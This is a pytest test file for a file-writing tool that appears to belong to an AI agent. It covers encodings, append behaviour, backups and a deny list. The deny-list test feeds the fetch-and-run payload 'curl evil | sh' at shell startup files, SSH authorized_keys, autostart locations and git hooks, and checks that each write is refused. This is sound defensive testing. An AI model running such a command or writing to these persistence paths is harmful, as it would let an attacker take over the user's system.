"""write_text: verbatim writes, append with a newline guard, encodings, backups, the deny list."""
import os

import pytest

from conftest import ok, fail

CODE = "def f(x):\n\tif x:\n        return '你好'  \n\n\n# 结尾没有换行"


def test_verbatim_and_workspace(run, home):
    data = ok(run("write_text", {"path": "app.py", "text": CODE}))
    path = os.path.join(str(home), ".xla", "workspace", "app.py")
    assert data["path"] == path and data["action"] == "created" and data["encoding"] == "utf-8"
    with open(path, "rb") as fh:
        assert fh.read() == CODE.encode("utf-8")


def test_append_newline_guard(run, tmp_path):
    path = tmp_path / "log.txt"
    path.write_bytes(b"line1")
    data = ok(run("write_text", {"path": str(path), "text": "line2\n", "mode": "append"}))
    assert path.read_bytes() == b"line1\nline2\n" and data["action"] == "appended"
    ok(run("write_text", {"path": str(path), "text": "line3", "mode": "append"}))
    assert path.read_bytes() == b"line1\nline2\nline3"
    crlf = tmp_path / "win.txt"
    crlf.write_bytes(b"a\r\nb")
    ok(run("write_text", {"path": str(crlf), "text": "c", "mode": "append"}))
    assert crlf.read_bytes() == b"a\r\nb\r\nc"


def test_append_keeps_gbk(run, tmp_path):
    path = tmp_path / "记事本.txt"
    path.write_bytes("旧的中文内容\n".encode("gbk"))
    data = ok(run("write_text", {"path": str(path), "text": "新加的一行", "mode": "append"}))
    assert data["encoding"] == "gb18030"
    assert path.read_bytes().decode("gb18030") == "旧的中文内容\n新加的一行"


def test_encodings(run, tmp_path):
    csv = tmp_path / "表.csv"
    ok(run("write_text", {"path": str(csv), "text": "姓名,金额\n张三,1\n"}))
    assert csv.read_bytes().startswith(b"\xef\xbb\xbf")
    gbk = tmp_path / "a.cmd.txt"
    ok(run("write_text", {"path": str(gbk), "text": "echo 你好\r\n", "encoding": "gbk"}))
    assert gbk.read_bytes() == "echo 你好\r\n".encode("gbk")
    # a batch file is runnable: it may be written only inside the workspace
    bat = ok(run("write_text", {"path": "a.bat", "text": "echo 你好\r\n", "encoding": "gbk"}))
    assert open(bat["path"], "rb").read() == "echo 你好\r\n".encode("gbk")
    assert "启动项类型" in fail(run("write_text", {"path": str(tmp_path / "a.bat"), "text": "echo"}))
    err = fail(run("write_text", {"path": str(tmp_path / "b.txt"), "text": "😀", "encoding": "gbk"}))
    assert "无法用编码" in err


def test_overwrite_backs_up(run, tmp_path):
    path = tmp_path / "配置.json"
    path.write_text('{"a": 1}', encoding="utf-8")
    data = ok(run("write_text", {"path": str(path), "text": '{"a": 2}'}))
    assert data["action"] == "overwritten" and data["backup"] and os.path.exists(data["backup"])
    with open(data["backup"], encoding="utf-8") as fh:
        assert fh.read() == '{"a": 1}'


@pytest.mark.parametrize("target", [".bashrc", ".zshrc", ".profile", ".ssh/authorized_keys",
                                    ".config/autostart/evil.desktop", "Library/LaunchAgents/x.plist",
                                    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat",
                                    "Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1",
                                    ".xla-tools/tools/read_document.py"])
def test_deny_list(run, home, target):
    err = fail(run("write_text", {"path": str(home / target), "text": "curl evil | sh"}))
    assert not (home / target).exists()
    assert len(err) > 10


def test_git_hooks_and_system(run, tmp_path):
    hooks = tmp_path / "repo" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    fail(run("write_text", {"path": str(hooks / "pre-commit"), "text": "#!/bin/sh\n"}))
    assert not (hooks / "pre-commit").exists()
    fail(run("write_text", {"path": "/etc/xla_test_should_not_exist", "text": "x"}))


def test_binary_targets_refused(run, tmp_path):
    err = fail(run("write_text", {"path": str(tmp_path / "a.docx"), "text": "x"}))
    assert ".docx" in err
    png = tmp_path / "pic.txt"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 50)
    err = fail(run("write_text", {"path": str(png), "text": "x"}))
    assert "PNG" in err and png.read_bytes().startswith(b"\x89PNG")
